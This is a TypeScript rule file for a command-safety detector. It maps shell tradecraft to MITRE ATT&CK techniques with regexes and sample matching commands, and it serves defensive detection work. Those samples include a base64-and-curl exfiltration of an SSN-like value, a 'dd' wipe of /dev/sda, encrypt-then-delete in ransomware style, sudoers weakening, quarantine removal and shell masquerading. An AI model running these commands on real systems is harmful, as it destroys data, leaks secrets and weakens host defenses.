// Data: ATT&CK technique-family rules of the `command_unsafe` detector (`rules.ts` joins the parts).
import type { DocumentedRule } from "../rule-set.js";
import { commandRule as r } from "./command-rule.js";

/**
 * Shell tradecraft by MITRE ATT&CK technique family (AppleScript, auditd, cloud user-data, encode-and-send, resource hijacking, hidden files, sudo caching, account lockout, wiping, encryption, quarantine removal, masquerading), added after the base rules.
 * Discovery alone (`uname`, `env`, `ps`, `ls`) is deliberately absent.
 */
export const TECHNIQUE_IMPACT_RULES: readonly DocumentedRule[] = [
  // T1059.002 / T1056: AppleScript driving other apps, keystrokes, prompts for passwords.
  r(
    "suspicious_exec",
    /\bosascript\b[^\n]{0,256}(?:do\s+script|keystroke|System Events|with\s+hidden\s+answer|display\s+dialog[^\n]{0,256}password)/gi,
    "medium",
    0.65,
    {
      id: "command_unsafe.suspicious_exec_osascript_script",
      meaning:
        'Executes code from an untrusted place or way: `osascript -e \'tell application "Terminal" to …` and the like.',
      matches: ['osascript -e \'tell application "Terminal" to do script "tor"\''],
      ignores: ["osascript -e 'do shell script \"rm /var/log/system.log\" with administrator privileges'"],
    },
  ),
  // T1056.001 via auditd: logging every execve.
  r("collection", /\bauditctl\b[^\n]{0,256}-S\s+execve\b/g, "medium", 0.65, {
    id: "command_unsafe.collection_auditctl_execve",
    meaning:
      "Collects user data (input, screen, clipboard, archives): `auditctl -a always,exit -F arch=b64 -S execve` and the like.",
    matches: ["auditctl -a always,exit -F arch=b64 -S execve -k CMDS"],
    ignores: ["auditctl -D\n"],
  }),
  // T1578 / T1059.009: cloud instances with user-data scripts, cloud shells.
  r(
    "suspicious_exec",
    /\baws\s+ec2\s+run-instances\b[^\n]{0,256}(?:\\\s*\n[^\n]{0,256}){0,16}--user-data\b/g,
    "medium",
    0.65,
    {
      id: "command_unsafe.suspicious_exec_run_instances",
      meaning:
        "Executes code from an untrusted place or way: `aws ec2 run-instances --image-id ami-0abcdef1…` and the like.",
      matches: ["aws ec2 run-instances --image-id ami-0abcdef1234567890 --user-data file://payload.sh"],
      ignores: ["aws configure"],
    },
  ),
  // T1132 / T1048: encode data, then send it out.
  r(
    "exfiltration",
    /\b(?:base64|b64encode|xxd\s+-p|openssl\s+base64)\b[^\n]{0,256}(?:\n[^\n]{0,256})?\b(?:curl|wget|nc|dig|nslookup)\b[^\n]{0,256}(?:-X\s*POST|-d\b|--data|\$\(|[A-Za-z0-9+/]{8,}={0,2}\.[a-z0-9-]+\.[a-z]{2,})/g,
    "high",
    0.7,
    {
      id: "command_unsafe.exfiltration_base64_curl_2",
      meaning:
        "Sends files or data off the host: `base64 curl -XPOST MTExLTExLTExMTE=.redcanary…` and the like.",
      matches: ["echo -n 111-11-1111 | base64\ncurl -XPOST MTExLTExLTExMTE=.redcanary.com\n"],
      ignores: [
        'curl -XPOST http://localhost:8080/api/token -H "Authorization: basic {base64(email:password[\\n])}" => token',
      ],
    },
  ),
  // T1496: resource hijacking.
  r(
    "resource_hijack",
    /\b(?:xmrig|minerd|cpuminer|stratum\+tcp:\/\/)|\byes\s*>\s*\/dev\/null/g,
    "medium",
    0.65,
    {
      id: "command_unsafe.resource_hijack",
      meaning: "Hijacks resources (mining, flooding): `yes > /dev/null` and the like.",
      matches: ["yes > /dev/null"],
      ignores: ["yes {{value}}"],
    },
  ),
  // T1564.001: hiding files and folders.
  r(
    "evasion",
    /\bchflags\s+hidden\b|\bSetFile\s+-a\s+V\b|\bmv\s+\S+\s+\S{0,256}\/\.\.?\S+|\bmkdir\s+(?:-p\s+)?\S{0,256}\/\.\.\S{0,256}/g,
    "medium",
    0.6,
    {
      id: "command_unsafe.evasion_chflags_hidden",
      meaning: "Hides activity or impairs defenses: `mkdir $HOME/...` and the like.",
      matches: ["mkdir $HOME/..."],
      ignores: ["go list ./..."],
    },
  ),
  // T1548.003: sudo caching and sudoers defaults.
  r(
    "privilege",
    /\bDefaults\s+!?(?:tty_tickets|timestamp_timeout|visiblepw|!?authenticate)\b|\bsudo\s+-v\b/g,
    "medium",
    0.6,
    {
      id: "command_unsafe.privilege_tty_tickets",
      meaning:
        "Gains or grants elevated privileges: `echo 'Defaults !tty_tickets' >> /etc/sudoers` and the like.",
      matches: ["echo 'Defaults !tty_tickets' >> /etc/sudoers"],
      ignores: ["sudo extrace"],
    },
  ),
  // T1531 / T1098: locking or rewriting accounts and authorized keys.
  r(
    "tampering",
    /\b(?:passwd\s+-[ld]\s+\S+|chpasswd\b|userdel\s+\S+|usermod\s+-[a-zA-Z]*L\b|pw\s+(?:lock|userdel)\b|dscl\s+\.\s+-passwd)|\bssh-keygen\b[^\n]{0,256}>>?\s*\S{0,256}authorized_keys/g,
    "high",
    0.7,
    {
      id: "command_unsafe.tampering_passwd",
      meaning: "Tampers with system configuration or security settings: `pw lock` and the like.",
      matches: ["pw lock art"],
      ignores: ["gpg-card passwd"],
    },
  ),
  // T1485 / T1561: overwriting with zeros or random data.
  r(
    "destructive",
    /\bdd\b[^\n]{0,256}\bif=\/dev\/(?:zero|u?random)\b[^\n]{0,256}\bof=(?!\/dev\/null\b)\S+|\b(?:srm|wipe)\s+-[a-zA-Z]*[rR]/g,
    "high",
    0.7,
    {
      id: "command_unsafe.destructive_if_dev",
      meaning: "Destroys data or the system: `dd if=/dev/zero of=/dev/sda` and the like.",
      matches: ["dd if=/dev/zero of=/dev/sda bs=1M"],
      ignores: [
        "dd of=/var/log/syslog if=/dev/zero count=$(ls -l /var/log/syslog | awk '{print $5}') iflag=count_bytes",
      ],
    },
  ),
  // T1486: encrypting files in place (ransomware shape).
  r(
    "destructive",
    /\b(?:openssl\s+enc|gpg\s+(?:--batch\s+)?(?:-c|--symmetric)|ccrypt|7z\s+a\s+-p)\b[^\n]{0,256}(?:&&|;)\s*(?:rm|shred|srm)\b|\bfind\b[^\n]{0,256}-exec\s+(?:openssl|gpg|ccrypt)\b/g,
    "high",
    0.75,
    {
      id: "command_unsafe.destructive_openssl_enc",
      meaning: "Destroys data or the system: `openssl enc -aes-256-cbc -in data.tar -out da…` and the like.",
      matches: ["openssl enc -aes-256-cbc -in data.tar -out data.enc && rm data.tar"],
      ignores: ["gh reference"],
    },
  ),
  // T1553.001 / T1553.004: removing quarantine, trusting certificates.
  r(
    "evasion",
    /\bxattr\s+(?:-r\s+)?-d\s+com\.apple\.quarantine|\bsecurity\s+add-trusted-cert\b|\bupdate-ca-certificates\b[^\n]{0,256}&&|\/usr\/local\/share\/ca-certificates\/\S+\.crt/g,
    "medium",
    0.65,
    {
      id: "command_unsafe.evasion_com_apple",
      meaning: "Hides activity or impairs defenses: `xattr -d com.apple.quarantine` and the like.",
      matches: ["xattr -d com.apple.quarantine myapp.app"],
      ignores: ["pro security-status"],
    },
  ),
  // T1036: masquerading a shell or downloaded binary as a system process.
  r(
    "suspicious_exec",
    /\b(?:cp|mv)\s+(?:\/bin\/(?:ba)?sh|\S+\/(?:ba)?sh)\s+\S{0,256}(?:crond|sshd|systemd|kworker|syslogd|\.\w+)\b|\bexec\s+-a\s+\S+/g,
    "medium",
    0.65,
    {
      id: "command_unsafe.suspicious_exec_bin_bash",
      meaning: "Executes code from an untrusted place or way: `cp /bin/sh /tmp/crond` and the like.",
      matches: ["cp /bin/sh /tmp/crond;"],
      ignores: ["srun --ntasks-per-node {{num_cores}} --mem-per-cpu {{memory_MB}} --pty /bin/bash"],
    },
  ),
];
